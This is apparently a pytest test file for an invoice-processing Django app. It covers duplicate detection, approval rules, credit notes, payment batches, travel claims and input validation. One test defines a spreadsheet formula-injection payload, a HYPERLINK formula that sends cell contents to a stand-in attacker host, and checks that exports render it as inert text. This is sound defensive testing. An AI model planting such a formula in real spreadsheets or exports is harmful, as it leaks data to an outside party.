"""Services of the invoices app: submitting and checking, duplicates held, approval only of
what the rules allow, credit notes, idempotent payment batches, placement fees and travel
claims (R-BILL-1..11)."""

from __future__ import annotations

import datetime as dt
from collections.abc import Callable
from decimal import Decimal
from typing import Any

import pytest
from django.db import IntegrityError, transaction
from django.utils import timezone

from opstap.accounts.models import User
from opstap.audit.models import AuditRecord
from opstap.clients.models import Client
from opstap.invoices import services
from opstap.invoices.models import Invoice, InvoiceEvent, PaymentBatch
from opstap.invoices.services import InvoiceError, TripInput
from opstap.providers.models import Provider
from opstap.trajectories.deadlines import add_working_days
from opstap.trajectories.models import Trajectory

from .conftest import make_product, submit

pytestmark = pytest.mark.django_db


def test_code3_second_instalment_is_green_and_approved(
    first_instalment: Invoice, code3_done: Trajectory, provider_user_a: User, clerk: User
) -> None:
    """R-BILL-1, R-BILL-2: code 3 pays 50% after plan approval and 50% after the final report;
    the second instalment matches the rules (green) and the finance clerk approves it."""
    assert first_instalment.status == "approved"
    invoice = submit(provider_user_a, code3_done)
    assert (invoice.status, invoice.verdict, invoice.reasons) == ("checked", "green", [])
    assert invoice.allowed_excl == Decimal("1250.00")
    approved = services.invoice_approve(actor=clerk, invoice=invoice)
    assert approved.status == "approved"
    assert approved.approved_by == clerk
    actions = list(InvoiceEvent.objects.filter(invoice=invoice).values_list("action", flat=True))
    assert actions == ["submit", "check", "approve"]
    assert AuditRecord.objects.filter(object_type="invoice", object_id=str(invoice.pk)).count() == 3


def test_payment_due_30_working_days_after_receipt(
    code3_done: Trajectory, provider_user_a: User
) -> None:
    """R-TRJ-3: payment is due 30 working days (Atw) after receipt of the invoice."""
    invoice = submit(provider_user_a, code3_done)
    assert invoice.due_on == add_working_days(dt.date(2026, 8, 14), 30)
    assert invoice.due_on == dt.date(2026, 9, 25)


def test_duplicate_is_held_and_never_approved(
    first_instalment: Invoice, code3_done: Trajectory, provider_user_a: User, clerk: User
) -> None:
    """R-BILL-10: the same milestone invoiced again (new number) is held, never paid twice."""
    submit(provider_user_a, code3_done, invoice_number="F-2")
    duplicate = submit(provider_user_a, code3_done, invoice_number="F-3")
    assert duplicate.status == "held"
    assert duplicate.verdict == "red"
    assert duplicate.reasons[0]["code"] == "dubbel"
    assert duplicate.duplicate_of is not None
    with pytest.raises(InvoiceError, match="Aangehouden"):
        services.invoice_approve(actor=clerk, invoice=duplicate)
    # Re-sending the same invoice number is held too.
    again = submit(provider_user_a, code3_done, invoice_number="F-2")
    assert again.status == "held"


def test_database_refuses_a_second_live_claim(
    code3_done: Trajectory, provider_user_a: User
) -> None:
    """R-BILL-10: even bypassing the services, two live invoices for one claim cannot exist."""
    submit(provider_user_a, code3_done, invoice_number="F-2")
    held = submit(provider_user_a, code3_done, invoice_number="F-3")
    with pytest.raises(IntegrityError), transaction.atomic():
        Invoice.objects.filter(pk=held.pk).update(status="checked")


def test_held_invoice_released_when_original_rejected(
    code3_done: Trajectory, provider_user_a: User, clerk: User
) -> None:
    """R-BILL-10: a held invoice stays held while its original lives; after the original is
    rejected a recheck releases it."""
    original = submit(provider_user_a, code3_done, invoice_number="F-2", amount_excl=Decimal("9"))
    held = submit(provider_user_a, code3_done, invoice_number="F-3")
    with pytest.raises(InvoiceError, match="blijft aangehouden"):
        services.invoice_recheck(actor=clerk, invoice=held)
    services.invoice_reject(actor=clerk, invoice=original, reason="Bedragen kloppen niet.")
    released = services.invoice_recheck(actor=clerk, invoice=held)
    assert (released.status, released.verdict) == ("checked", "green")


def test_early_invoice_is_red_with_the_reason(
    contracted_a: Provider,
    provider_user_a: User,
    client_k: Client,
    walk: Callable[..., Trajectory],
    clerk: User,
) -> None:
    """R-BILL-1, R-BILL-2: the final instalment before the trajectory ended is refused with
    the reason; approval is refused with it too."""
    running = walk(make_product(contracted_a, 3), provider_user_a, client_k)
    invoice = submit(provider_user_a, running, invoice_date=dt.date(2026, 6, 1))
    assert invoice.verdict == "red"
    assert "traject_loopt_nog" in [r["code"] for r in invoice.reasons]
    with pytest.raises(InvoiceError, match="nog niet afgerond"):
        services.invoice_approve(actor=clerk, invoice=invoice)
    assert Invoice.objects.get(pk=invoice.pk).status == "checked"


def test_jobcoaching_above_ceiling_refused_with_reason(
    contracted_a: Provider,
    provider_user_a: User,
    client_k: Client,
    walk: Callable[..., Trajectory],
    clerk: User,
) -> None:
    """R-BILL-7, R-NET-7: jobcoaching at an hourly rate above the ceiling is red: the amount is
    above what the rules allow and the rate above the ceiling; approval is refused."""
    trajectory = walk(make_product(contracted_a, 5), provider_user_a, client_k)
    invoice = submit(
        provider_user_a,
        trajectory,
        milestone="jobcoaching_quarter",
        period_start=dt.date(2026, 5, 6),
        period_end=dt.date(2026, 8, 5),
        hourly_rate=Decimal("95.00"),
        logbook=[{"date": "2026-06-01", "hours": "6"}, {"date": "2026-07-01", "hours": "4"}],
        amount_excl=Decimal("950.00"),
        vat=Decimal("199.50"),
        amount_incl=Decimal("1149.50"),
    )
    codes = [r["code"] for r in invoice.reasons]
    assert invoice.verdict == "red"
    assert "bedrag_te_hoog" in codes and "uurtarief_boven_plafond" in codes
    assert invoice.allowed_excl == Decimal("750.00")
    with pytest.raises(InvoiceError, match="maximum uurtarief"):
        services.invoice_approve(actor=clerk, invoice=invoice)


def test_provider_cannot_submit_for_another_providers_trajectory(
    code3_done: Trajectory, provider_user_b: User
) -> None:
    """R-SEC-1, R-BILL-2: provider B submitting for provider A's trajectory is refused as if
    the trajectory did not exist; nothing is stored."""
    with pytest.raises(InvoiceError) as info:
        submit(provider_user_b, code3_done)
    assert info.value.code == "not_found"
    assert not Invoice.objects.exists()


def test_client_data_must_match(code3_done: Trajectory, provider_user_a: User) -> None:
    """R-BILL-2: the invoice states the client's surname and number; others are red."""
    invoice = submit(provider_user_a, code3_done, client_surname="Anders")
    assert "klantgegevens_wijken_af" in [r["code"] for r in invoice.reasons]


def test_payment_batch_is_idempotent(
    first_instalment: Invoice, code3_done: Trajectory, provider_user_a: User, clerk: User
) -> None:
    """R-BILL-10: a batch is exported once; exporting or marking it paid again changes
    nothing, and no invoice can enter a second batch."""
    batch = services.payment_batch_create(actor=clerk)
    assert batch.invoice_count == 1
    exported = services.payment_batch_export(actor=clerk, batch=batch)
    first = (exported.export_sha256, exported.exported_at, exported.export_csv.read())
    events = InvoiceEvent.objects.count()
    again = services.payment_batch_export(actor=clerk, batch=batch)
    again.export_csv.open()
    assert (again.export_sha256, again.exported_at, again.export_csv.read()) == first
    assert InvoiceEvent.objects.count() == events
    with pytest.raises(InvoiceError, match="geen goedgekeurde"):
        services.payment_batch_create(actor=clerk)
    assert PaymentBatch.objects.count() == 1
    # paid on the day the invoice arrived (the test's today); a payment day must lie between
    # the receipt and today (test_paid_on.py)
    services.payment_batch_mark_paid(actor=clerk, batch=batch, paid_on=dt.date(2026, 8, 14))
    services.payment_batch_mark_paid(actor=clerk, batch=batch, paid_on=dt.date(2026, 8, 13))
    paid = Invoice.objects.get(pk=first_instalment.pk)
    assert (paid.status, paid.paid_on) == ("paid", dt.date(2026, 8, 14))


def test_batch_export_has_typed_cells(first_instalment: Invoice, clerk: User) -> None:
    """R-BILL-11: the Excel export has dates as dates and amounts as numbers."""
    from openpyxl import load_workbook

    batch = services.payment_batch_export(
        actor=clerk, batch=services.payment_batch_create(actor=clerk)
    )
    sheet = load_workbook(batch.export_xlsx.open("rb")).active
    row = [c.value for c in sheet[2]]
    assert isinstance(row[4], dt.datetime) and row[4].date() == dt.date(2026, 5, 8)
    assert row[10] == 1512.5


def test_credit_note_linked_and_capped(first_instalment: Invoice, clerk: User) -> None:
    """R-BILL-8: a partial credit note links to the invoice; never more than it still has."""
    note = services.credit_note_create(
        actor=clerk,
        invoice=first_instalment,
        number="C-1",
        credit_date=dt.date(2026, 6, 1),
        reason="Te veel gefactureerd",
        amount_excl=Decimal("100.00"),
        vat=Decimal("21.00"),
        amount_incl=Decimal("121.00"),
    )
    assert note.invoice_id == first_instalment.pk
    with pytest.raises(InvoiceError, match="hoger dan"):
        services.credit_note_create(
            actor=clerk,
            invoice=first_instalment,
            number="C-2",
            credit_date=dt.date(2026, 6, 1),
            reason="Nog meer",
            amount_excl=Decimal("1200.00"),
            vat=Decimal("252.00"),
            amount_incl=Decimal("1452.00"),
        )


def test_early_termination_needs_substance_confirmation(
    contracted_a: Provider,
    provider_user_a: User,
    client_k: Client,
    walk: Callable[..., Trajectory],
    case_manager: User,
    clerk: User,
) -> None:
    """R-BILL-5: the pro-rata settlement needs the case manager's confirmation (reason,
    reporting); then it is green at the proposed amount and can be approved."""
    from opstap.trajectories import services as trajectory_services

    trajectory = walk(make_product(contracted_a, 3), provider_user_a, client_k)
    for action, reason, on in [
        ("terminate_early", "Verhuisd", dt.date(2026, 6, 5)),
        ("receive_final_report", "", dt.date(2026, 6, 8)),
        ("hand_over", "", dt.date(2026, 6, 9)),
    ]:
        trajectory = trajectory_services.trajectory_transition(
            actor=provider_user_a,
            trajectory=trajectory,
            action=action,
            reason=reason,
            payload={"end_date": "2026-06-05"} if action == "terminate_early" else {},
            on=on,
        )
    # 2500 x 30 elapsed / 182 nominal days = 412.09
    invoice = submit(
        provider_user_a,
        trajectory,
        milestone="early_termination",
        invoice_date=dt.date(2026, 6, 10),
        # received the day it is dated: in time (R-TRJ-3 is judged on the day of receipt)
        received_at=dt.datetime(2026, 6, 10, 10, 0, tzinfo=dt.UTC),
        period_end=dt.date(2026, 6, 5),
        amount_excl=Decimal("412.09"),
        vat=Decimal("86.54"),
        amount_incl=Decimal("498.63"),
    )
    assert invoice.verdict == "red" and invoice.needs_substance
    with pytest.raises(InvoiceError, match="klantmanager"):
        services.invoice_approve(actor=clerk, invoice=invoice)
    confirmed = services.invoice_confirm_substance(
        actor=case_manager, invoice=invoice, termination_reason="move", reported_on_time=True
    )
    assert (confirmed.status, confirmed.verdict) == ("substance_confirmed", "green")
    assert services.invoice_approve(actor=clerk, invoice=confirmed).status == "approved"


def test_placement_fee_once_per_placement(code3_done: Trajectory, provider_user_a: User) -> None:
    """R-BILL-6: EUR 500 with the contract for a durable placement; one fee per placement."""
    from django.core.files.uploadedfile import SimpleUploadedFile

    def claim(number: str) -> Any:
        return services.placement_fee_claim_submit(
            actor=provider_user_a,
            trajectory=code3_done,
            invoice_number=number,
            invoice_date=dt.date(2026, 8, 10),
            employer="Bakkerij Jansen",
            placement_start=dt.date(2026, 7, 1),
            hours_per_week=Decimal("32"),
            contract_months=12,
            probation_end=dt.date(2026, 7, 31),
            contract=SimpleUploadedFile("c.pdf", b"%PDF-1.4 contract", "application/pdf"),
        )

    fee = claim("F-9")
    assert fee.invoice.amount_excl == Decimal("500.00")
    assert fee.invoice.verdict == "green", fee.invoice.reasons
    with pytest.raises(InvoiceError, match="één fee per plaatsing"):
        claim("F-10")


def test_travel_claim_checked_against_attendance(
    code3_done: Trajectory, case_manager: User
) -> None:
    """R-BILL-9: trips without attendance are refused; single trips over 50 km are at the
    provider's expense."""
    claim = services.travel_claim_submit(
        actor=case_manager,
        trajectory=code3_done,
        trips=[
            TripInput(dt.date(2026, 5, 11), Decimal("12"), Decimal("6.40")),
            TripInput(dt.date(2026, 5, 12), Decimal("61"), Decimal("30.00")),
            TripInput(dt.date(2026, 5, 13), Decimal("12"), Decimal("6.40")),
        ],
        attended_on=[dt.date(2026, 5, 11), dt.date(2026, 5, 12)],
    )
    assert claim.attendance_source == "claim"
    assert (claim.organisation_pays, claim.provider_pays, claim.refused) == (
        Decimal("6.40"),
        Decimal("30.00"),
        Decimal("6.40"),
    )
    _ = timezone.now()


def test_bulk_check_matches_single_check(
    first_instalment: Invoice, code3_done: Trajectory, provider_user_a: User
) -> None:
    """R-BILL-2, R-BILL-10: the bulk check (benchmarks, nightly rechecks) gives the same
    verdicts as the stored single checks."""
    second = submit(provider_user_a, code3_done)
    early = submit(provider_user_a, code3_done, invoice_number="F-9", milestone="plan_approved")
    from django.db import connection
    from django.test.utils import CaptureQueriesContext

    with CaptureQueriesContext(connection) as queries:
        results = services.invoices_check_many([first_instalment, second, early])
    # constant, whatever the number of invoices (7 since the VAT table is read from the
    # database once per chunk, beside the ceilings: R-BILL-11 reference data)
    assert len(queries.captured_queries) <= 7
    for invoice in (second, early):
        status = results[invoice.pk][0]
        assert status.value == invoice.verdict or invoice.status == "held"
    assert results[second.pk][0].value == "green"
    assert results[first_instalment.pk][0].value == "green"


def test_batch_export_writes_invoice_numbers_as_text(
    code3_done: Trajectory, provider_user_a: User, clerk: User
) -> None:
    """R-SEC-6, R-INT-4 (formula injection): an invoice number like =HYPERLINK(...) is written
    as text in the xlsx (string cell, no formula) and with a leading apostrophe in the CSV;
    negative amounts of credit notes stay numbers."""
    import csv
    import io

    from openpyxl import load_workbook

    hostile = '=HYPERLINK("https://evil.example/?d="&C2,"Details")'
    invoice = submit(
        provider_user_a,
        code3_done,
        invoice_number=hostile,
        milestone="plan_approved",
        invoice_date=dt.date(2026, 5, 8),
    )
    services.invoice_approve(actor=clerk, invoice=invoice)
    batch = services.payment_batch_export(
        actor=clerk, batch=services.payment_batch_create(actor=clerk)
    )
    sheet = load_workbook(batch.export_xlsx.open("rb")).active
    cells = [c for row in sheet.iter_rows() for c in row]
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    assert hostile in [c.value for c in cells]
    rows = list(
        csv.reader(
            io.StringIO(batch.export_csv.open("rb").read().decode("utf-8-sig")), delimiter=";"
        )
    )
    assert "'" + hostile in rows[1]
    assert not any(cell.startswith(("=", "+", "@")) for row in rows for cell in row)


@pytest.mark.parametrize(
    ("overrides", "field", "words"),
    [
        ({"invoice_date": "0001-01-01"}, "invoice_date", "ligt niet tussen"),
        ({"invoice_date": dt.date(1999, 12, 31)}, "invoice_date", "ligt niet tussen"),
        ({"period_start": "0055-01-01"}, "period_start", "ligt niet tussen"),
        ({"amount_excl": Decimal("-1250.00")}, "amount_excl", "niet negatief"),
        ({"vat": "-1"}, "vat", "niet negatief"),
        ({"hourly_rate": "-45.00"}, "hourly_rate", "niet negatief"),
    ],
)
def test_implausible_invoice_values_are_refused_in_dutch(
    code3_done: Trajectory, provider_user_a: User, overrides: dict[str, Any], field: str, words: str
) -> None:
    """R-SEC-6 (issue 19 items 7, 8): an invoice dated 0001-01-01 crashed (500); negative
    amounts and rates were stored. The service refuses them with a Dutch message naming the
    field, so API, pages and import agree."""
    with pytest.raises(InvoiceError) as info:
        submit(provider_user_a, code3_done, **overrides)
    assert info.value.field == field and words in info.value.message
    assert not Invoice.objects.exists()
